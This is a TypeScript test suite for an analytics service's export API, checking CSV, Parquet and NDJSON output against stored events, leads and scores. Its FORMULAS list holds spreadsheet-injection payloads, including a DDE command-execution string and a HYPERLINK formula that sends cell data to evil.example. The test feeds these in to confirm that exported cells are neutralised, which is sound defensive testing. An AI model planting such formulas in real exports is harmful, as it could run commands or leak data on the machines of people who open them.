import { randomUUID } from 'node:crypto'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gunzipSync } from 'node:zlib'
import { type DuckDBConnection, DuckDBInstance } from '@duckdb/node-api'
import Database from 'better-sqlite3'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Column } from '../../collector/export/column.ts'
import { EVENT_COLUMNS } from '../../collector/export/event-columns.ts'
import type { EventLine } from '../../collector/export/event-line.ts'
import { LEAD_COLUMNS } from '../../collector/export/lead-columns.ts'
import { exportPieces } from '../../collector/export/pieces.ts'
import { SCORE_COLUMNS, type ScoreLine } from '../../collector/export/score-line.ts'
import { createVeil } from '../../collector/http/veil.ts'
import { createMailDomains } from '../../collector/scoring/mail-domains.ts'
import type { ExportedLeadJson } from '../../collector/store/exported.ts'
import { createSqliteReader } from '../../collector/store/sqlite/read/reader.ts'
import { createWorld, eventAt } from '../support/world.ts'
import { createWhole, type Whole } from './access-fixture.ts'
import { DAY, MINUTE, NOW } from './api-fixture.ts'

/** Everything of a kind in every format, as other programs read it: csv-parse and DuckDB. */

/** What spreadsheets take for the beginning of a formula. */
const FORMULAS = [
  '=1+1',
  '=SUM(A1:A9)',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '+cmd|x',
  '-1+1',
  '-cmd|x',
  '@SUM(1)',
  '＝1',
  '＋1',
  '＠1',
]
const TYPES = {
  text: 'VARCHAR',
  instant: 'TIMESTAMP WITH TIME ZONE',
  integer: 'BIGINT',
  number: 'DOUBLE',
  flag: 'BOOLEAN',
  json: 'JSON',
} as const
/** More than a page of each kind. */
const PEOPLE = 130

let whole: Whole
let duck: DuckDBConnection
const directory = mkdtempSync(join(tmpdir(), 'pique-test-'))

beforeAll(async () => {
  whole = await createWhole()
  duck = await (await DuckDBInstance.create(':memory:')).connect()
  const { service } = whole
  for (let i = 0; i < PEOPLE; i += 1) {
    const at = NOW - DAY - Math.floor(i / 40) * 61 * MINUTE + i
    const formula = FORMULAS[i % FORMULAS.length] ?? ''
    const traits = { name: formula, company: `Ünique "${i}", Ltd\nLine`, seats: -i }
    const url = 'https://shop.example/pricing'
    service.deliver(
      'blog',
      randomUUID(),
      [
        eventAt(at, 'page_view', { url, title: formula }),
        eventAt(at + 5, 'view_item', {
          url,
          props: { item: formula, price: -1.5, new: true },
        }),
        eventAt(at + 9, 'user_engagement', {
          url,
          view: randomUUID(),
          props: { engaged_ms: 4000 + i, scroll: 60, view_at: at },
        }),
        eventAt(at + 10, 'identify', { props: { email: `p${i}@many.example`, traits } }),
      ],
      at + 20,
    )
  }
  // Cookieless: what names no browser.
  service.deliver('blog', null as never, [eventAt(NOW - DAY, 'page_view')], NOW - DAY + 77)
  await service.writer.addOutcome({
    lead: 2,
    type: 'qualify_lead',
    at: NOW - MINUTE,
    value: 12.5,
    currency: 'EUR',
    reason: '=fine',
    by: 'sales',
    recordedAt: NOW,
  })
  await service.writer.addAdjustment({ lead: 2, milli: -1500, label: 'met', at: NOW, by: 'me' })
  const db = new Database(service.path)
  // As a server names its browsers and events.
  db.exec(`UPDATE browser SET external = 'user:42' WHERE id = 3;
    UPDATE event SET external = 'order/1', server = 1 WHERE session = 3 AND n = 0`)
  db.close()
})
afterAll(() => {
  whole.service.close()
  duck.closeSync()
  rmSync(directory, { recursive: true })
})

async function get(query: string, headers: Readonly<Record<string, string>> = {}) {
  const authorization = `Bearer ${whole.service.keyOf(['admin'])}`
  const answer = await whole.request(`/api/v1/export?${query}`, {
    headers: { authorization, ...headers },
  })
  expect([query, answer.status]).toEqual([query, 200])
  return answer
}

async function linesOf<T>(query: string): Promise<readonly T[]> {
  const text = await (await get(query)).text()
  expect(text.at(-1)).toBe('\n')
  return text.trimEnd().split('\n').map((line) => JSON.parse(line)) // biome-ignore format: one thought
}

const KINDS = [
  ['events', EVENT_COLUMNS as readonly Column<never>[]],
  ['leads', LEAD_COLUMNS as readonly Column<never>[]],
  ['scores', SCORE_COLUMNS as readonly Column<never>[]],
] as const

describe.each(KINDS)('%s', (what, columns) => {
  test('as CSV: csv-parse reads what NDJSON says, and no cell is a formula', async () => {
    const lines = await linesOf<never>(`what=${what}`)
    const answer = await get(`what=${what}&format=csv`)
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    const rows: Record<string, string>[] = parse(Buffer.from(await answer.arrayBuffer()), {
      columns: true,
      bom: true,
    })
    expect(rows.length).toBe(lines.length)
    expect(Object.keys(rows[0] ?? {})).toEqual(columns.map(({ header }) => header))
    lines.forEach((line, i) => {
      for (const column of columns) {
        const cell = rows[i]?.[column.header] ?? 'no cell'
        const said = column.of(line) ?? ''
        const isNumber = column.type === 'integer' || column.type === 'number'
        if (isNumber) expect(cell).toBe(String(said))
        else expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
        if (column.inCsv) expect(cell).toBe(column.inCsv(line))
        else if (column.type === 'json') expect(JSON.parse(cell || '""')).toEqual(said)
        else if (!isNumber) expect(cell.replace(/^'(?=[=+\-@＝＋－＠])/, '')).toBe(String(said))
      }
    })
  })

  test('as Parquet: DuckDB reads the same values, each of its type', async () => {
    const lines = await linesOf<never>(`what=${what}`)
    const answer = await get(`what=${what}&format=parquet`)
    expect(answer.headers.get('content-disposition')).toMatch(
      new RegExp(`^attachment; filename="pique-${what}-\\d{4}-\\d\\d-\\d\\d.parquet"$`),
    )
    const path = join(directory, `${what}.parquet`)
    writeFileSync(path, Buffer.from(await answer.arrayBuffer()))
    const described = await duck.runAndReadAll(`DESCRIBE SELECT * FROM '${path}'`)
    expect(described.getRowsJson().map(([name, type]) => [name, type])).toEqual(
      columns.map(({ header, type }) => [header, TYPES[type]]),
    )
    const asked = columns.map(({ header, type }) =>
      type === 'instant' ? `epoch_ms("${header}")` : `"${header}"`,
    )
    const read = await duck.runAndReadAll(`SELECT ${asked.join(', ')} FROM '${path}'`)
    const rows = read.getRowsJson()
    expect(rows.length).toBe(lines.length)
    lines.forEach((line, i) => {
      columns.forEach((column, place) => {
        const value = rows[i]?.[place] ?? null
        const said = column.of(line) ?? null
        if (said === null) expect(value).toBeNull()
        else if (column.type === 'instant') expect(Number(value)).toBe(Date.parse(String(said)))
        else if (column.type === 'integer') expect(Number(value)).toBe(said)
        else if (column.type === 'json') expect(JSON.parse(String(value))).toEqual(said)
        else expect(value).toBe(said)
      })
    })
  })
})

test('the reasons sum to the score, by SQL', async () => {
  const answer = await get('what=scores&format=parquet')
  const path = join(directory, 'sums.parquet')
  writeFileSync(path, Buffer.from(await answer.arrayBuffer()))
  const read = await duck.runAndReadAll(
    `SELECT count(*), count(*) FILTER (score_milli > 0), count(*) FILTER (score_milli =
       coalesce(list_sum(list_transform(CAST(reasons->'$[*].milli' AS BIGINT[]), x -> x)), 0))
     FROM '${path}'`,
  )
  const [all, some, right] = read.getRowsJson()[0]?.map(Number) ?? []
  expect([all, right]).toEqual([PEOPLE + 3, PEOPLE + 3])
  expect(some).toBeGreaterThan(PEOPLE)
})

test('a part of a Parquet file is none, and a read that fails ends it in an error', async () => {
  const bytes = Buffer.from(await (await get('what=events&format=parquet')).arrayBuffer())
  const path = join(directory, 'part.parquet')
  writeFileSync(path, bytes.subarray(0, bytes.length - 9))
  await expect(duck.runAndReadAll(`SELECT count(*) FROM '${path}'`)).rejects.toThrow()
  let reads = 0
  const { reader } = whole.service
  const failing = {
    ...reader,
    exportEvents: (query: Parameters<typeof reader.exportEvents>[0]) => {
      reads += 1
      if (reads > 2) throw new Error('the disk is gone')
      return reader.exportEvents({ ...query, limit: 10 })
    },
  }
  for (const format of ['ndjson', 'csv', 'parquet'] as const) {
    reads = 0
    const pieces = exportPieces(failing, { what: 'events', format }, NOW)
    const all = async () => {
      for await (const _ of pieces);
    }
    await expect(all()).rejects.toThrow('the disk is gone')
  }
})

test('a line of an event holds all that is stored of it', async () => {
  const lines = await linesOf<EventLine>('what=events')
  const hex = (text: string | undefined) => text?.replaceAll('-', '') ?? null
  const told = lines.map((line) => ({
    id: line.id === 'order/1' ? line.id : hex(line.id),
    at: Date.parse(line.at),
    received: Date.parse(line.received_at),
    browser: line.browser === 'user:42' ? line.browser : hex(line.browser),
    cookieless: line.cookieless ? 1 : 0,
    session: hex(line.session),
    view: hex(line.view),
    human: line.human ? 1 : 0,
    server: line.server ? 1 : 0,
    engaged: line.type === 'user_engagement' ? (line.props?.engaged_ms ?? null) : null,
    email: line.claim?.email ?? null,
    traits: line.claim ? JSON.stringify(line.claim.traits ?? {}) : null,
  }))
  const db = new Database(whole.service.path, { readonly: true })
  const stored = db
    .prepare(
      `SELECT coalesce(e.external, lower(hex(e.id))) AS id, s.base_at + e.at_ms AS at,
         s.base_at + e.at_ms + e.delay_ms AS received, coalesce(b.external, lower(hex(b.key))) AS browser,
         b.cookieless, lower(hex(s.key)) AS session, lower(hex(v.key)) AS view, e.human, e.server,
         e.engaged_ms AS engaged, c.email, c.traits
       FROM event e JOIN session s ON s.id = e.session JOIN browser b ON b.id = s.browser
       LEFT JOIN view v ON v.browser = b.id AND v.n = e.view
       LEFT JOIN claim c ON c.browser = b.id AND c.event = e.id
       ORDER BY b.id, at, e.id`,
    )
    .all()
  db.close()
  // SQLite says '' of the hex of nothing.
  const cleaned = (stored as Record<string, unknown>[]).map((row) => ({
    ...row,
    session: row.session || null,
    view: row.view || null,
  }))
  expect(told).toEqual(cleaned)
  expect(told.filter(({ email }) => email).length).toBeGreaterThan(PEOPLE)
  expect(told.filter(({ server, cookieless }) => server || cookieless)).toHaveLength(2)
  expect(lines.find(({ type }) => type === 'user_engagement')?.props).toEqual({
    engaged_ms: 4000,
    scroll: 60,
    view_at: NOW - DAY,
  })
})

test('a lead comes with what was said of it, a score with whose it is', async () => {
  const leads = await linesOf<ExportedLeadJson>('')
  const scores = await linesOf<ScoreLine>('what=scores')
  const second = leads.find(({ id }) => id === 'ld_2')
  expect(second?.outcomes).toMatchObject([{ type: 'qualify_lead', value: 12.5, by: 'sales' }])
  expect(second?.adjustments).toMatchObject([{ points: -1.5, reason: 'met', by: 'me' }])
  expect(scores.map(({ lead, email }) => [lead, email])).toEqual(
    leads.map(({ id, email }) => [id, email]),
  )
})

test('an undone link stands at the lead whose claim it voids', async () => {
  const { service } = whole
  const [ann] = (await linesOf<ExportedLeadJson>('what=leads&site=si_1')).slice(0, 1)
  const found = await service.reader.identities(ann?.id ?? '', {})
  if (found.kind !== 'found') throw new Error(found.kind)
  const [identity] = found.value
  const visitor = Number(identity?.visitor.slice(3))
  const lead = Number(ann?.id.slice(3))
  await service.writer.unlink({ visitor, lead, at: NOW, by: 'somebody' })
  const unlinks = (await linesOf<ExportedLeadJson>('what=leads')).flatMap((one) => one.unlinks)
  expect(unlinks).toMatchObject([
    { by: 'somebody', at: new Date(NOW).toISOString(), browser: identity?.browser },
  ])
  expect(unlinks[0]?.user_ids.length).toBe(1)
})

test('goes compressed to whoever takes that, Parquet as it is; a key of one site has that alone', async () => {
  const plain = await (await get('what=events')).text()
  const zipped = await get('what=events', { 'accept-encoding': 'gzip' })
  expect(zipped.headers.get('content-encoding')).toBe('gzip')
  expect(gunzipSync(Buffer.from(await zipped.arrayBuffer())).toString()).toBe(plain)
  const parquet = await get('what=events&format=parquet', { 'accept-encoding': 'gzip' })
  expect(parquet.headers.get('content-encoding')).toBeNull()
  await parquet.body?.cancel()
  const bound = `Bearer ${whole.service.keyOf(['admin'], 'si_1')}`
  const own = await (await get('what=events', { authorization: bound })).text()
  const sites = new Set(own.trimEnd().split('\n').map((line) => JSON.parse(line).site)) // biome-ignore format: one thought
  expect([...sites]).toEqual(['si_1'])
})

test('whoever may not see addresses is told none, in any format', async () => {
  const veil = createVeil(whole.service.reader)
  const textOf = async (what: (typeof KINDS)[number][0], format: 'ndjson' | 'csv' | 'parquet') => {
    const parts: Buffer[] = []
    const ask = { what, format }
    for await (const piece of exportPieces(veil.reader, ask, NOW)) parts.push(Buffer.from(piece))
    return Buffer.concat(parts).toString()
  }
  for (const [what] of KINDS) {
    for (const format of ['ndjson', 'csv', 'parquet'] as const) {
      expect(await textOf(what, format)).not.toMatch(/[a-z0-9]{2,}@(many|example)/)
    }
    expect(await veil.answerFor(true, () => textOf(what, 'ndjson'))).toContain('p7@many.example')
  }
})

test('what was there at its start is told once, whatever comes in and joins meanwhile', async () => {
  const world = createWorld({ isLimited: false })
  const BROWSERS = 40
  const at = (minute: number) => NOW - DAY + minute * MINUTE
  const browsers = Array.from({ length: BROWSERS }, () => randomUUID())
  const gaps = [0, 1, 50, 51]
  for (const browser of browsers) {
    world.deliver({ browser, events: gaps.map((m) => eventAt(at(m), 'page_view')) }, at(60))
  }
  const reader = createSqliteReader(world.path, createMailDomains('', ''))
  const db = new Database(world.path, { readonly: true })
  const before = db.prepare('SELECT lower(hex(id)) FROM event').pluck().all()
  const sessions = () => db.prepare('SELECT count(*) FROM session').pluck().get()
  expect([before.length, sessions()]).toEqual([4 * BROWSERS, 2 * BROWSERS])

  const told: string[] = []
  let cursor: string | null = null
  for (let pages = 0; ; pages += 1) {
    const found = await reader.exportEvents({ limit: 3, ...(cursor && { cursor }) })
    if (found.kind !== 'found') throw new Error(found.kind)
    told.push(...found.value.data.map(({ id }) => id.replaceAll('-', '')))
    cursor = found.value.next_cursor
    if (cursor === null) break
    // A late event in between makes one visit of two; and somebody new comes.
    const browser = browsers[(pages * 17) % BROWSERS]
    if (pages < BROWSERS && browser) {
      world.deliver({ browser, events: [eventAt(at(25), 'page_view')] }, at(70) + pages)
    }
    world.deliver({ browser: randomUUID(), events: [eventAt(at(60), 'page_view')] }, at(71) + pages)
  }
  const counts = new Map<string, number>()
  for (const id of told) counts.set(id, (counts.get(id) ?? 0) + 1)
  expect(before.map((id) => counts.get(String(id)) ?? 0)).toEqual(before.map(() => 1))
  expect(Math.max(...counts.values())).toBe(1)
  expect(Number(sessions())).toBeLessThan(2 * BROWSERS + told.length - 4 * BROWSERS)
  db.close()
  world.close()
})
